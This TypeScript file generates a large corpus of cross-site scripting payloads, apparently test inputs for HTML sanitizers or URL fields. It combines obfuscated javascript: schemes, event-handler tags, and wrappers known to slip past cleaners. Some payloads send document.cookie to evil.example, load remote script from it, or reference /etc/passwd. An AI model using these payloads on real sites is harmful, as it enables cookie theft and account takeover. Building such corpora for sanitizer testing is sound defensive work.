/** Contexts from which a text may break out, and code that would then run. */
const payloads = [
  'alert(1)',
  'alert`1`',
  'top["al"+"ert"](1)',
  'document.location="//evil.example"',
  'fetch("//evil.example/?"+document.cookie)',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '\u200bjavascript:',
  'javascript\u00a0:',
  'java&#115;cript:',
  'java&Tab;script:',
  '&#106;&#97;vascript:',
  'javascript&colon;',
  'vbscript:',
  'livescript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD4',
  'data:image/svg+xml,<svg onload=',
  'view-source:javascript:',
  'feed:javascript:',
  'blob:https://evil.example/',
  'file:///etc/passwd#',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example\\',
  'https://evil.example/"onmouseover="',
  "https://evil.example/'onmouseover='",
  'https://evil.example/><script>',
  'https:javascript:',
  'jav\u0000ascript:',
  'http://\u0000evil.example/',
];

const events = ['onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onbegin', 'onpointerenter', 'OnAnimationStart'];
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'a href=#',
  'table',
  'p',
  'math',
];

/** Ways of writing a tag that cleaners are known to have missed. */
const wrappers: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<SCRIPT/x>${script}</SCRIPT >`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<script src=//evil.example/x.js></script>${script}`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style>`,
  (script) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<textarea><img title="</textarea><svg onload=${script}>"></textarea>`,
  (script) => `<title><a title="</title><img src onerror=${script}>"></title>`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[><img src=x onerror=${script}>]]>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<object data="javascript:${script}"></object><embed src="javascript:${script}">`,
  (script) => `<base href="javascript:${script}//"><a href="/x">go</a>`,
  (script) => `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  (script) => `<link rel=stylesheet href="data:text/css,*{x:expression(${script})}">`,
  (script) => `<style>@import 'javascript:${script}'; *{behavior:url(#x)}</style>`,
  (script) => `<p style="background:url(javascript:${script})">x</p>`,
  (script) => `<p style="width:expression(${script})">x</p>`,
  (script) => `<form action="javascript:${script}"><button formaction="javascript:${script}">x</button></form>`,
  (script) => `<a href="https://a.example" ping="javascript:${script}" target="_top">x</a>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  (script) => `<svg><animate attributeName=href values="javascript:${script}"/></svg>`,
  (script) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${script}'/>#x"/></svg>`,
  (script) => `<img src="x" srcset="javascript:${script}"><picture><source srcset="javascript:${script}"></picture>`,
  (script) => `<video poster="javascript:${script}"><source onerror="${script}"></video>`,
  (script) => `<template><script>${script}</script></template><slot onslotchange=${script}>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'-${script}-'`,
  (script) => `\${${script}} {{${script}}} <%= ${script} %>`,
  (script) => `</textarea></title></style></script><svg/onload=${script}>`,
  (script) => `<img\fsrc=x\u000bonerror=${script}>`,
  (script) => `<a\nhref\n=\n"javascript:${script}"\n>x</a>`,
];

/** A thousand texts that try to run code: scripts, tags, attributes and addresses. */
export const hostileTexts: readonly string[] = [
  ...wrappers.flatMap((wrap) => payloads.map(wrap)),
  ...events.flatMap((event) =>
    elements.flatMap((element) => [
      `<${element} ${event}=alert(1)>`,
      `<${element}/${event}="alert&#40;1&#41;">`,
      `<${element} x="${event}=" ${event.toUpperCase()}='alert(1)'>text`,
    ]),
  ),
  ...schemes.flatMap((scheme) =>
    payloads.flatMap((script) => [
      `${scheme}${script}`,
      `<a href="${scheme}${script}">x</a>`,
      `<img src='${scheme}${script}'>`,
      `<iframe src=${scheme}${encodeURIComponent(script)}></iframe>`,
    ]),
  ),
];

/** The same attacks as plain addresses, for fields that accept one. */
export const hostileAddresses: readonly string[] = schemes.flatMap((scheme) =>
  payloads.map((script) => scheme + script),
);
